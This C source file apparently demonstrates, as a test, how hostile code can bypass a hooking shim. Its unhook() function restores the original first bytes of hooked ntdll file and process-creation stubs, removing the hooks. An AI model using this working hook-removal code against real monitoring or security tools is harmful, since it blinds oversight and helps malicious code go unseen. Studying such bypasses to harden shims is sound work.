/* Out of the shim: the first bytes of each hooked stub are put back from the shim's own way to the original, as hostile
 * code in the process can always do. */
#include "attack.h"

#include <string.h>

unsigned unhook(void) {
    static const char *const names[] = {"NtCreateFile", "NtOpenFile", "NtSetInformationFile", "NtDeleteFile",
                                        "NtCreateUserProcess"};
    unsigned found = 0;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        union {
            FARPROC found;
            uint8_t *bytes;
        } stub = {GetProcAddress(GetModuleHandleW(L"ntdll.dll"), names[i])};
        DWORD old;
        int32_t offset;
        if (!stub.bytes || stub.bytes[0] != 0xE9) {
            continue;
        }
        memcpy(&offset, stub.bytes + 1, sizeof(offset));
        /* The jump leads to a relay entry: 16 bytes to the shim's function, then the stub's first 8. */
        const uint8_t *original = stub.bytes + 5 + offset + 16;
        if (VirtualProtect(stub.bytes, 8, PAGE_EXECUTE_READWRITE, &old)) {
            memcpy(stub.bytes, original, 8);
            VirtualProtect(stub.bytes, 8, old, &old);
            FlushInstructionCache(GetCurrentProcess(), stub.bytes, 8);
            found++;
        }
    }
    return found;
}
